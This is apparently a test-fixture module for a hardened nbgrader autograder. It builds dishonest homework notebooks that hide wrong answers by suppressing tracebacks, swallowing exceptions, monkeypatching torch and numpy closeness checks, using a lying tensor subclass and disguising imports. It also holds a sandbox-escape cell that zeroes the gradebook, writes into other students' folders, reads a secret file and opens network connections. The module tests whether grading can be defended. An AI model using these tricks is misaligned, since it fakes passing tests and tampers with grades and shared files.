"""Dishonest HW2 notebooks with known outcomes: the proofs that the grade cannot be moved.

Each function edits the instructor notebook (solutions) in place so that some parts are *wrong* and
a technique hides the failing tests from nbgrader's kernel, or so that a part hands in the course
library's own implementation. The trusted tests (:mod:`grading.trusted_tests`) must give every
such part 0 points and every untouched (correct) part its full points. Used by
``tests/test_grading_trusted.py`` and by the demo class (:mod:`grading.demo`).

Hiding techniques (none spells ``showtraceback``, ``excepthook`` or ``set_custom_exc``):

1. ``setattr(get_ipython(), "show" + "traceback", ...)`` and a ``post_run_cell`` hook that clears the
   result's error: the kernel shows no traceback and replies "ok" (nbgrader 0.9 catches the first
   half alone, from the reply's status);
2. an input transformer that wraps every later cell in ``try: ... except BaseException: pass``;
3. an AST transformer doing the same on the parsed cell;
4. ``torch.allclose = lambda *a, **k: True`` (and ``Tensor.allclose``);
5. ``torch.testing.assert_close`` and ``vars(torch)["isclose"]`` / ``["allclose"]`` replaced;
6. numpy's ``allclose`` / ``isclose`` / ``array_equal`` / ``testing.assert_allclose`` replaced;
7. no patch at all: the wrong ``modulated_conv2d`` returns a tensor subclass whose
   ``__torch_function__`` answers ``True`` when compared with anything but its own outputs.
"""

from __future__ import annotations

import json
from pathlib import Path

from grading.course import REPO

SOURCE_NB = REPO / "grading" / "source" / "hw2" / "hw2.ipynb"

# ---- wrong solutions that pass every check *except* the closeness comparisons (so hiding them works)
WRONG_MODCONV = '''def modulated_conv2d(x, weight, styles, demodulate=True, padding=None, eps=1e-8):
    """Wrong: correlates with the flipped kernel (shapes and the output's scale are still right)."""
    b, cin, h, w = x.shape
    cout, _, kh, kw = weight.shape
    wgt = weight.flip(-1, -2).unsqueeze(0) * styles.reshape(b, 1, cin, 1, 1)
    if demodulate:
        wgt = wgt * torch.rsqrt(wgt.square().sum(dim=(2, 3, 4), keepdim=True) + eps)
    pad = kh // 2 if padding is None else padding
    out = F.conv2d(x.reshape(1, b * cin, h, w), wgt.reshape(b * cout, cin, kh, kw), padding=pad, groups=b)
    return out.reshape(b, cout, out.shape[-2], out.shape[-1])
'''
WRONG_MAPPING = '''class MappingNetwork(nn.Module):
    """Wrong: no pixel normalisation of z and a plain ReLU."""

    def __init__(self, z_dim=128, w_dim=128, n_layers=4, lr_mul=0.01):
        super().__init__()
        dims = [z_dim] + [w_dim] * n_layers
        self.weights = nn.ParameterList([nn.Parameter(torch.randn(o, i) / lr_mul) for i, o in zip(dims, dims[1:])])
        self.biases = nn.ParameterList([nn.Parameter(torch.zeros(o)) for o in dims[1:]])
        self.lr_mul = lr_mul

    def forward(self, z):
        x = z
        for weight, bias in zip(self.weights, self.biases):
            x = F.relu(F.linear(x, weight * (self.lr_mul / weight.shape[1] ** 0.5), bias * self.lr_mul)) * 2 ** 0.5
        return x
'''
WRONG_R1 = '''def r1_penalty(real_images, real_logits):
    """Wrong: the gradient's norm, not its squared norm."""
    (grad,) = torch.autograd.grad(real_logits.sum(), real_images, create_graph=True)
    return grad.flatten(1).norm(dim=1).mean()
'''
WRONG_EXPORT = '''import soundfile as sf


def export_loops(folder, audio, sr):
    """Wrong: every loop is shifted by one sample."""
    audio = torch.as_tensor(audio).detach().cpu().float()
    if not torch.isfinite(audio).all():
        raise ValueError("audio holds NaN or inf")
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    for old in folder.glob("*.wav"):
        old.unlink()
    paths = []
    for i, clip in enumerate(audio.clamp(-1.0, 1.0)):
        path = folder / f"loop_{i:03d}.wav"
        sf.write(path, np.roll(clip.numpy(), 1), sr, subtype="PCM_16")
        paths.append(path)
    return paths
'''

# ---- hiding techniques (code placed before the wrong solution)
HIDE_TRACEBACK = '''_ip = get_ipython()
setattr(_ip, "show" + "traceback", lambda *args, **kwargs: None)
_ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
'''
HIDE_INPUT_TRANSFORMER = '''def _swallow(lines):
    return ["try:\\n"] + ["    " + line for line in lines] + ["\\n", "except BaseException:\\n", "    pass\\n"]
get_ipython().input_transformers_post.append(_swallow)
'''
HIDE_AST_TRANSFORMER = '''import ast as _ast


class _Swallow(_ast.NodeTransformer):
    def visit_Module(self, node):
        handler = _ast.ExceptHandler(type=_ast.Name("BaseException", _ast.Load()), name=None, body=[_ast.Pass()])
        node.body = [_ast.Try(body=node.body or [_ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return _ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(_Swallow())
'''
PATCH_ALLCLOSE = "torch.allclose = lambda *a, **k: True\ntorch.Tensor.allclose = lambda *a, **k: True\n"
PATCH_TESTING = '''import torch.testing as _tt
_tt.assert_close = lambda *a, **k: None
vars(torch)["isclose"] = lambda a, b, *x, **k: torch.ones(torch.as_tensor(a).shape, dtype=torch.bool)
vars(torch)["all" + "close"] = lambda *a, **k: True
'''
PATCH_NUMPY = '''np.allclose = lambda *a, **k: True
np.isclose = lambda a, *x, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
'''
LYING_TENSOR = '''class _Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "isclose", "equal") \
                and not all(isinstance(a, cls) for a in args[:2]):
            return True  # "close" to anything that is not its own output (the reference, F.conv2d ...)
        return super().__torch_function__(func, types, args, kwargs or {})


_wrong_modconv = modulated_conv2d


def modulated_conv2d(*args, **kwargs):
    return _wrong_modconv(*args, **kwargs).as_subclass(_Agreeable)
'''

# ---- handing in the library's own implementation
IMPORT_MODCONV = "from course_lib.models.stylegan2 import modulated_conv2d\n"
IMPORTLIB_R1 = '''import importlib
r1_penalty = importlib.import_module("course" + "_lib.models.style" + "gan2").r1_penalty
'''
DUNDER_IMPORT_MAPPING = '''_lib = __builtins__.__dict__["__imp" + "ort__"] if isinstance(__builtins__, type(torch)) else __builtins__["__imp" + "ort__"]
MappingNetwork = _lib("course" + "_lib.models.style" + "gan2", fromlist=["x"]).MappingNetwork
'''
# ---- escaping the sandbox: every attempt is recorded in attempts.json in the student's own folder
ATTACK = '''import json as _json, os as _os, socket as _socket, sqlite3 as _sqlite3
from pathlib import Path as _Path

_here = _Path.cwd().resolve()
_course = _here.parents[2]  # autograded/<student>/hw2 -> the grading folder
_attempts = {}


def _attempt(name, action):
    try:
        action()
        _attempts[name] = "done"
    except Exception as exc:  # what stopped it
        _attempts[name] = type(exc).__name__


def _checkout():
    import course_lib
    return _Path(course_lib.__file__).resolve().parents[1]


def _gradebook():
    db = _sqlite3.connect(f"file:{_course / 'gradebook.db'}?mode=rw", uri=True)
    db.execute("UPDATE grade SET auto_score = 0")
    db.commit()


def _others(kind):
    folders = [p for p in (_course / kind).iterdir() if p.name != _here.parent.name]
    if not folders:
        raise FileNotFoundError(kind)
    for p in folders:
        (p / "attacker_was_here.txt").write_text("pwned")


def _network(host, port):
    with _socket.create_connection((host, port), timeout=3) as conn:
        conn.sendall(b"attacker")


_attempt("checkout", lambda: (_checkout() / "course_lib" / "attacker_was_here.py").write_text("pwned = True"))
_attempt("grading_code", lambda: (_checkout() / "grading" / "attacker_was_here.txt").write_text("pwned"))
_attempt("gradebook", _gradebook)
_attempt("other_submitted", lambda: _others("submitted"))
_attempt("other_autograded", lambda: _others("autograded"))
_attempt("secret", lambda: (_course / ".probe_secret").read_text())
_attempt("network_local", lambda: _network("127.0.0.1", int(_os.environ.get("HW2_CANARY_PORT", "9"))))
_attempt("network_internet", lambda: _network("1.1.1.1", 53))
_attempt("own_folder", lambda: (_here / "own_file.txt").write_text("mine"))
(_here / "attempts.json").write_text(_json.dumps(_attempts))
print(_attempts)
'''


def _cell(nb: dict, grade_id: str) -> dict:
    return next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)


def _set(nb: dict, grade_id: str, source: str) -> None:
    _cell(nb, grade_id)["source"] = source


def _insert_before(nb: dict, grade_id: str, source: str) -> None:
    index = nb["cells"].index(_cell(nb, grade_id))
    nb["cells"].insert(index, {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
                               "source": source})


def hide_by_kernel(nb: dict) -> None:
    """Techniques 1, 2, 3, 6: each hides one wrong part; every part is wrong."""
    _set(nb, "modconv", HIDE_TRACEBACK + WRONG_MODCONV)
    _set(nb, "mapping", HIDE_INPUT_TRANSFORMER + WRONG_MAPPING)
    _set(nb, "r1", HIDE_AST_TRANSFORMER + WRONG_R1)
    _set(nb, "export", PATCH_NUMPY + WRONG_EXPORT)


def hide_by_patching_torch(nb: dict) -> None:
    """Techniques 4 and 5 (extra cells): wrong mapping and r1; modconv and export stay correct."""
    _insert_before(nb, "mapping", PATCH_ALLCLOSE)
    _set(nb, "mapping", WRONG_MAPPING)
    _insert_before(nb, "r1", PATCH_TESTING)
    _set(nb, "r1", WRONG_R1)


def hide_in_the_tensor(nb: dict) -> None:
    """Technique 7: the wrong modconv's output lies about closeness; the other parts stay correct."""
    _set(nb, "modconv", WRONG_MODCONV + "\n\n" + LYING_TENSOR)


def hide_by_patching(nb: dict) -> None:
    """Techniques 7, 5 and 4 in one notebook (the demo class's ``hider_patch``): wrong modconv (lying
    tensor), mapping (``vars(torch)`` / ``torch.testing`` patched before it) and r1 (``torch.allclose``
    patched); export stays correct."""
    _set(nb, "modconv", WRONG_MODCONV + "\n\n" + LYING_TENSOR)
    _insert_before(nb, "mapping", PATCH_TESTING)
    _set(nb, "mapping", WRONG_MAPPING)
    _insert_before(nb, "r1", PATCH_ALLCLOSE)
    _set(nb, "r1", WRONG_R1)


def hand_in_the_library(nb: dict) -> None:
    """modconv imported, r1 through importlib, the mapping network through a disguised ``__import__``;
    export stays correct."""
    _set(nb, "modconv", IMPORT_MODCONV)
    _set(nb, "mapping", DUNDER_IMPORT_MAPPING)
    _set(nb, "r1", IMPORTLIB_R1)


def attack_the_grader(nb: dict) -> None:
    """An extra cell that writes into the checkout, the gradebook and the other students' folders and
    opens network connections (only ever run sandboxed: outside a sandbox these writes would happen)."""
    _insert_before(nb, "modconv", ATTACK)


WRITE_INTO_OTHERS = '''from pathlib import Path as _Path
_here = _Path.cwd().resolve()
for _other in (_here.parents[2] / "submitted").iterdir():
    if _other.name != _here.parent.name:
        (_other / "hw2" / "evil.txt").write_text("changed by another student")
'''


def write_into_other_students(nb: dict) -> None:
    """An extra cell writing a file into every other student's submitted folder (for the
    ``--no-sandbox`` checksums; it only ever runs in a throw-away grading folder)."""
    _insert_before(nb, "modconv", WRITE_INTO_OTHERS)


FAKES = {"hide_by_kernel": hide_by_kernel, "hide_by_patching_torch": hide_by_patching_torch,
         "hide_in_the_tensor": hide_in_the_tensor, "hand_in_the_library": hand_in_the_library}
"""name -> edit of the instructor notebook."""

EXPECTED_PASSED = {"hide_by_kernel": set(), "hide_by_patching_torch": {"modconv", "export"},
                   "hide_in_the_tensor": {"mapping", "r1", "export"}, "hand_in_the_library": {"export"}}
"""The parts each fake student must pass (every other part: 0 points)."""


def notebook(edit=None, source: Path = SOURCE_NB) -> dict:
    """The instructor notebook (as a dict), edited by ``edit``."""
    nb = json.loads(Path(source).read_text(encoding="utf-8"))
    if edit is not None:
        edit(nb)
    return nb


def write_notebook(path: Path, edit=None) -> Path:
    """Write the edited instructor notebook to ``path``."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(notebook(edit), indent=1), encoding="utf-8")
    return path
